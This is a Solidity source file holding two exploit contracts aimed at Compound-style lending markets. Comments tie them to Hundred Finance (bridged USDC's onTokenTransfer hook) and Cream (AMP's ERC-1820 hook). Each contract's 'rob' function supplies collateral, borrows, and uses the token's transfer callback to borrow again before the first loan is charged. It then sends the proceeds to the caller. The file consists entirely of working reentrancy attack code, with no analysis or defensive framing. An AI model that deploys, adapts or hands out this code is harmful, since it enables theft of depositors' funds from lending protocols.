// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface IComptroller {
    function enterMarkets(address[] calldata markets) external returns (uint256[] memory);
}

interface IMarket {
    function mint(uint256 amount) external returns (uint256);
    function mint() external payable;
    function borrow(uint256 amount) external returns (uint256);
    function underlying() external view returns (address);
}

interface IERC20 {
    function approve(address spender, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
    function balanceOf(address account) external view returns (uint256);
}

interface IRegistry {
    function setInterfaceImplementer(address account, bytes32 hash, address implementer) external;
}

/// Borrows once more while it is being paid what it borrowed first, and has not been charged yet.
abstract contract HookBorrower {
    address private second;
    uint256 private secondAmount;

    function _enter(address comptroller, address market) internal {
        address[] memory markets = new address[](1);
        markets[0] = market;
        IComptroller(comptroller).enterMarkets(markets);
    }

    function _borrow(address first, uint256 amount, address second_, uint256 secondAmount_) internal {
        (second, secondAmount) = (second_, secondAmount_);
        require(IMarket(first).borrow(amount) == 0, "not lent");
        require(second == address(0), "no hook");
        IERC20 token = IERC20(IMarket(first).underlying());
        token.transfer(msg.sender, token.balanceOf(address(this)));
        (bool done,) = msg.sender.call{value: address(this).balance}("");
        require(done);
    }

    function _again() internal {
        if (second == address(0)) return;
        IMarket market = IMarket(second);
        second = address(0);
        require(market.borrow(secondAmount) == 0, "not lent again");
    }

    receive() external payable {}
}

/// Hundred: bridged USDC tells its receiver by `onTokenTransfer`.
contract TokenHookBorrower is HookBorrower {
    function rob(address comptroller, address market, address native, uint256 supplied, uint256 first, uint256 second)
        external
    {
        IERC20(IMarket(market).underlying()).approve(market, supplied);
        require(IMarket(market).mint(supplied) == 0, "not supplied");
        _enter(comptroller, market);
        _borrow(market, first, native, second);
    }

    function onTokenTransfer(address, uint256, bytes calldata) external returns (bool) {
        _again();
        return true;
    }
}

/// Cream: AMP tells its receiver by ERC-1820.
contract AmpHookBorrower is HookBorrower {
    function rob(address comptroller, address native, address market, uint256 first, uint256 second)
        external
        payable
    {
        IRegistry(0x1820a4B7618BdE71Dce8cdc73aAB6C95905faD24).setInterfaceImplementer(
            address(this), keccak256("AmpTokensRecipient"), address(this)
        );
        IMarket(native).mint{value: msg.value}();
        _enter(comptroller, native);
        _borrow(market, first, native, second);
    }

    function tokensReceived(
        bytes4,
        bytes32,
        address,
        address,
        address,
        uint256,
        bytes calldata,
        bytes calldata
    ) external {
        _again();
    }
}
